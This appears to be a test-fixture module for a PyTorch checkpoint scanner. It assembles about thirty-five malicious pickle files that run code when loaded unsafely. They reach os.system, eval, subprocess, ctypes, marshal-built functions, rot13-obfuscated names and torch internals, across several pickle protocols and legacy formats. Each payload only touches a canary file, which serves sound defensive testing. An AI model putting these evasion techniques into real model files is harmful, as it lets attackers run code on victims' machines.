"""Pickles that run code when they are opened without care. Each leaves a canary then, which a test proves."""

import codecs
import io
import marshal
import pickle
from collections.abc import Callable
from pathlib import Path

import torch

from tests.faults.assembler import (
    EMPTY,
    FALSE,
    NONE,
    build,
    call,
    data,
    dic,
    legacy_of,
    lst,
    name,
    new,
    number,
    program,
    stacked_name,
    text,
    tup,
    zip_of,
)

Make = Callable[[Path, Path], None]  # writes the file; the second is the canary that its code would leave


def shell(canary: Path) -> str:
    """The command that leaves the canary."""
    return f"touch '{canary}'"


def source(canary: Path) -> str:
    """The Python that leaves the canary."""
    return f"open({str(canary)!r}, 'w')"


def system(canary: Path) -> bytes:
    """The plainest attack, for use in others."""
    return call(name("posix", "system"), text(shell(canary)))


def zipped(body: Callable[[Path], bytes], protocol: int = 2) -> Make:
    """torch.save's form around a state dict, with the attack beside the weights."""

    def make(path: Path, canary: Path) -> None:
        held = dic(text("state_dict"), dic(text("w"), number(1)), text("x"), body(canary))
        zip_of(path, program(held, protocol))

    return make


def bare(pickled: Callable[[Path], bytes]) -> Make:
    """torch.save's form around instructions of another protocol."""
    return lambda path, canary: zip_of(path, pickled(canary))


def legacy(place: int) -> Make:
    """The form before torch 1.6, with the attack in one of its five pickles."""
    return lambda path, canary: legacy_of(path, program(system(canary)), place)


_IMPORT_OS = call(name("builtins", "__import__"), text("os"))
_GETATTR = name("builtins", "getattr")


def _by_partial(canary: Path) -> bytes:
    return call(call(name("functools", "partial"), name("posix", "system"), text(shell(canary))))


def _by_attrgetter(canary: Path) -> bytes:
    getter = call(name("operator", "attrgetter"), text("system"))
    return call(call(getter, _IMPORT_OS), text(shell(canary)))


def _by_methodcaller(canary: Path) -> bytes:
    return call(call(name("operator", "methodcaller"), text("system"), text(shell(canary))), _IMPORT_OS)


def _by_function_type(canary: Path) -> bytes:
    code = marshal.dumps(compile(f"import builtins; builtins.{source(canary)}", "x", "exec"))
    return call(call(name("types", "FunctionType"), call(name("marshal", "loads"), data(code)), dic()))


def _by_codec(canary: Path) -> bytes:
    hidden = codecs.encode("__import__('os').system", "rot13")
    return call(
        call(name("builtins", "eval"), call(name("codecs", "decode"), text(hidden), text("rot13"))), text(shell(canary))
    )


def _by_torch_load(canary: Path) -> bytes:
    file = io.BytesIO()
    torch.save(_Calls(canary), file)
    return call(name("torch.storage", "_load_from_bytes"), data(file.getvalue()))


class _Calls:
    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (str(self.canary), "w")


def _by_graph_module(canary: Path) -> bytes:
    code = f"{source(canary)}\ndef forward(self): pass\n"
    return call(name("torch.fx.graph_module", "reduce_graph_module"), dic(text("_code"), text(code)), text(""))


def _by_timeit(canary: Path) -> bytes:
    clock = name("timeit", "default_timer")
    return call(name("timeit", "timeit"), text(source(canary)), text("pass"), clock, number(1))


def _by_ctypes(canary: Path) -> bytes:
    return call(call(_GETATTR, call(name("ctypes", "CDLL"), NONE), text("system")), data(shell(canary).encode()))


def _by_tensor_of_a_type(canary: Path) -> bytes:
    rebuild = name("torch._tensor", "_rebuild_from_type_v2")
    return call(rebuild, name("posix", "system"), name("torch", "Tensor"), tup(text(shell(canary))), dic())


def _in_a_parameter(canary: Path) -> bytes:
    hooks = call(name("collections", "OrderedDict"))
    return call(name("torch._utils", "_rebuild_parameter"), system(canary), FALSE, hooks)


def _in_the_state_of_a_layer(canary: Path) -> bytes:
    return build(new(name("torch.nn.modules.linear", "Identity")), dic(text("x"), system(canary)))


def _behind_a_layer(canary: Path) -> bytes:
    """`os`, as a module of torch's own package imported it."""
    return call(stacked_name("torch.serialization", "os.system"), text(shell(canary)))


def _old_text(canary: Path) -> bytes:
    return f"cposix\nsystem\n(S{shell(canary)!r}\ntR.".encode()


def _old_instance(canary: Path) -> bytes:
    return f"(S{shell(canary)!r}\niposix\nsystem\n.".encode()


def _old_object(canary: Path) -> bytes:
    return b"(" + name("posix", "system") + text(shell(canary)) + b"o."


def _with_keywords(canary: Path) -> bytes:
    """NEWOBJ_EX of a subclass of str would not do harm: the attack is its argument."""
    return program(name("builtins", "str") + tup(system(canary)) + dic() + b"\x92", 4)


def _memoised(canary: Path) -> bytes:
    parts = text("posix") + b"\x94" + text("system") + b"\x94" + b"00" + b"h\x00h\x01\x93"
    return program(parts + tup(text(shell(canary))) + b"R", 4)


def _thrown_away(canary: Path) -> bytes:
    """Called, then taken off the stack: what is left is a harmless state dict."""
    return program(system(canary) + b"0" + dic(text("w"), number(1)))


def _broken_after(canary: Path) -> bytes:
    return program(system(canary))[:-1] + b"\xff\xff"


FIRES: dict[str, Make] = {
    "os_system": zipped(system),
    "builtins_eval": zipped(lambda c: call(name("builtins", "eval"), text(source(c)))),
    "builtins_exec": zipped(lambda c: call(name("builtins", "exec"), text(source(c)))),
    "python2_builtins": zipped(lambda c: call(name("__builtin__", "eval"), text(source(c)))),
    "subprocess": zipped(lambda c: call(name("subprocess", "check_call"), lst(text("touch"), text(str(c))))),
    "getattr_chain": zipped(lambda c: call(call(_GETATTR, _IMPORT_OS, text("system")), text(shell(c)))),
    "attrgetter": zipped(_by_attrgetter),
    "methodcaller": zipped(_by_methodcaller),
    "partial": zipped(_by_partial),
    "function_type": zipped(_by_function_type, 3),
    "codecs": zipped(_by_codec),
    "nested_pickle": zipped(lambda c: call(name("pickle", "loads"), data(program(system(c)))), 3),
    "nested_torch_load": zipped(_by_torch_load, 3),
    "graph_module": zipped(_by_graph_module),
    "timeit": zipped(_by_timeit),
    "numpy_runstring": zipped(
        lambda c: call(name("numpy.testing._private.utils", "runstring"), text(source(c)), dic())
    ),
    "ctypes": zipped(_by_ctypes, 3),
    "open_for_writing": zipped(lambda c: call(name("io", "open"), text(str(c)), text("w"))),
    "rebuild_from_type": zipped(_by_tensor_of_a_type),
    "rebuild_parameter": zipped(_in_a_parameter),
    "state_of_a_layer": zipped(_in_the_state_of_a_layer),
    "behind_torch": zipped(_behind_a_layer, 4),
    "protocol_0": bare(_old_text),
    "protocol_0_instance": bare(_old_instance),
    "protocol_1_object": bare(_old_object),
    "protocol_4": bare(lambda c: program(call(stacked_name("posix", "system"), text(shell(c))), 4)),
    "protocol_5": bare(lambda c: pickle.dumps({"w": 1, "x": _Calls(c)}, 5)),
    "keywords": bare(_with_keywords),
    "memoised_names": bare(_memoised),
    "thrown_away": bare(_thrown_away),
    "broken_after": bare(_broken_after),
    "legacy_object": legacy(3),
    "legacy_machine": legacy(2),
    "legacy_storages": legacy(4),
    "empty_call": bare(lambda c: program(system(c) + EMPTY + b"R")),
}
